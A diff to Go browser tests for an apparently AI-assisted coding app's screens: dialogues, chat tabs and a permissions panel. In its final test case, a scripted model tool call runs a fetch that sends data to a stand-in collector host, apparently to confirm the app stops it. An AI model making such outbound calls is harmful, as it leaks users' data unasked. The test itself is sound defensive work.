@@ -39,16 +39,23 @@ func TestFilesScreens(t *testing.T) {
 			{"rewind", func(t *testing.T) { press(t, p, "#rewind"); dialogue(t, p) }, "Escape"},
 			{"conversations", func(t *testing.T) { press(t, p, "#all"); dialogue(t, p) }, "Escape"},
 			{"rename", func(t *testing.T) { press(t, p, "#rename"); dialogue(t, p) }, "Escape"},
-			{"delete", func(t *testing.T) { press(t, p, "#remove"); dialogue(t, p) }, "Escape"},
+			{"delete", func(t *testing.T) {
+				must(t, p.Click(testContext(t), `#tree [data-path="README.md"] .label`))
+				must(t, p.WaitFor(testContext(t), `!!document.querySelector("#tree [aria-selected=true]")`))
+				press(t, p, "#remove")
+				dialogue(t, p)
+			}, "Escape"},
 			{"trouble", func(t *testing.T) {
 				must(t, p.Eval(testContext(t), `void (() => { document.getElementById("trouble-text").textContent = "The provider does not accept the key. Look at it in Settings."; document.getElementById("trouble").hidden = false; document.getElementById("update").hidden = false; })()`, nil))
 			}, ""},
 			{"tabs", func(t *testing.T) {
 				must(t, p.Eval(testContext(t), `void (() => { document.getElementById("trouble").hidden = true; document.getElementById("update").hidden = true; })()`, nil))
 				for range 3 {
-					n := eval[int](t, p, `document.querySelectorAll("#sessions [role=tab]").length`)
+					n := eval[int](t, p, `document.querySelectorAll("#sessions .chat").length`)
 					press(t, p, "#new")
-					must(t, p.WaitFor(testContext(t), fmt.Sprintf(`document.querySelectorAll("#sessions [role=tab]").length === %d`, n+1)))
+					must(t, p.WaitFor(testContext(t), fmt.Sprintf(`document.querySelectorAll("#sessions .chat").length === %d`, n+1)))
+					say(t, p, "list the files") // an empty conversation would be the next one too
+					rested(t, p)
 				}
 			}, ""},
 			{"copy", func(t *testing.T) {
@@ -142,10 +149,10 @@ func TestFilesScreensOfAModel(t *testing.T) {
 				f.check(`document.getElementById("ask").focus()`)
 			}, answered(reject)},
 			{"what was allowed", func(*testing.T) {
-				f.check(`document.querySelector("#sessions [role=tab]").click()`)
+				f.check(`document.querySelector("#sessions li:last-child .chat").click()`)
 				f.wait("it is in view", `document.getElementById("cards").childElementCount > 2`)
 				f.click("#tab-settings")
-				f.wait("answers of both kinds", `["in this folder", "in this conversation"].every((how) => document.getElementById("grants").innerText.includes(how)) && document.querySelectorAll("#grants button").length > 2`)
+				f.wait("answers of both kinds", `["in this folder", "in this chat"].every((how) => document.getElementById("grants").innerText.includes(how)) && document.querySelectorAll("#grants button").length > 2`)
 			}, nil},
 			{"what was stopped", func(*testing.T) {
 				turns(tc("code_run", "code", `return await fetch("https://collect.example/?data=1")`))
